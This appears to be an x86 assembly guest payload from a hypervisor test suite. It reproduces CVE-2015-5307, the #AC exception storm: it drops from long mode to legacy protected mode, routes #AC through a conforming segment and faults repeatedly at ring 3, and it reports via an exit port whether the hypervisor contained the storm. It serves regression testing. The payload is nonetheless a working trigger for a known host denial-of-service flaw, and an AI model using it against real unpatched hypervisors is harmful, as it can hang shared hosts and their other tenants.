/*
 * hostile.bin mode 3: the #AC storm (CVE-2015-5307). In IA-32e mode every
 * delivery aligns RSP to 16 first, so the storm needs legacy protected
 * mode: leave long mode (a compatibility-mode segment, paging off,
 * EFER.LME off), set CR0.AM, make the #AC gate point at a conforming code
 * segment (delivery stays at CPL 3, SDM 6.12.1.1, so its pushes are
 * alignment-checked), and IRET to CPL 3 with EFLAGS.AC set and ESP odd.
 * The first PUSH raises #AC and so does every delivery of it. The
 * hypervisor must stop the VM (KVM_EXIT_EXCEPTION, vector 17); a CPU that
 * does not check alignment ends the run with status 0x41, a handler that
 * gets to run with 0x42.
 */
#define SEL_CODE32   0x08
#define SEL_DATA32   0x10
#define SEL_CONFORM  0x18
#define SEL_CODE3    0x23
#define SEL_DATA3    0x2b
#define VEC_AC       17
#define EXIT_PORT    0xf4
#define ODD_ESP      0x60001
#define CR0_PG       0x80000000
#define CR0_AM       (1 << 18)
#define EFER         0xc0000080
#define EFER_LME     (1 << 8)
#define RING3_EFLAGS 0x43002    /* AC, IOPL 3 (for the exit port), bit 1 */

	.code64
	.text
	.globl	hostile_ac_storm
	.type	hostile_ac_storm, @function
hostile_ac_storm:
	cli
	lea	ac_handler(%rip), %rax          /* 32-bit interrupt gate, DPL 0 */
	lea	ac_idt + 8 * VEC_AC(%rip), %rdx
	mov	%ax, (%rdx)
	movw	$SEL_CONFORM, 2(%rdx)
	movw	$0x8e00, 4(%rdx)
	shr	$16, %eax
	mov	%ax, 6(%rdx)
	lgdt	ac_gdt_ptr(%rip)
	pushq	$SEL_CODE32
	lea	1f(%rip), %rax
	pushq	%rax
	lretq
	.code32
1:	mov	$SEL_DATA32, %ax
	mov	%ax, %ds
	mov	%ax, %es
	mov	%ax, %ss
	mov	%cr0, %eax                      /* leave long mode */
	and	$~CR0_PG, %eax
	mov	%eax, %cr0
	mov	$EFER, %ecx
	rdmsr
	and	$~EFER_LME, %eax
	wrmsr
	mov	%cr0, %eax
	or	$CR0_AM, %eax
	mov	%eax, %cr0
	lidt	ac_idt_ptr
	push	$SEL_DATA3
	push	$ODD_ESP
	push	$RING3_EFLAGS
	push	$SEL_CODE3
	push	$ring3
	iret
ring3:
	push	%eax                            /* misaligned at CPL 3: #AC */
	mov	$0x41, %al
	out	%al, $EXIT_PORT
2:	jmp	2b

ac_handler:                                     /* CPL 3, conforming */
	mov	$0x42, %al
	out	%al, $EXIT_PORT
3:	jmp	3b
	.size	hostile_ac_storm, . - hostile_ac_storm

	.data
	.p2align 3
ac_gdt:
	.quad	0
	.quad	0x00cf9a000000ffff              /* 0x08 code, 32-bit, DPL 0 */
	.quad	0x00cf92000000ffff              /* 0x10 data */
	.quad	0x00cf9e000000ffff              /* 0x18 code, conforming */
	.quad	0x00cffa000000ffff              /* 0x20 code, DPL 3 */
	.quad	0x00cff2000000ffff              /* 0x28 data, DPL 3 */
ac_gdt_end:
ac_gdt_ptr:
	.word	ac_gdt_end - ac_gdt - 1
	.quad	ac_gdt
ac_idt:
	.fill	VEC_AC + 1, 8, 0
ac_idt_end:
ac_idt_ptr:
	.word	ac_idt_end - ac_idt - 1
	.long	ac_idt

	.section .note.GNU-stack, "", @progbits
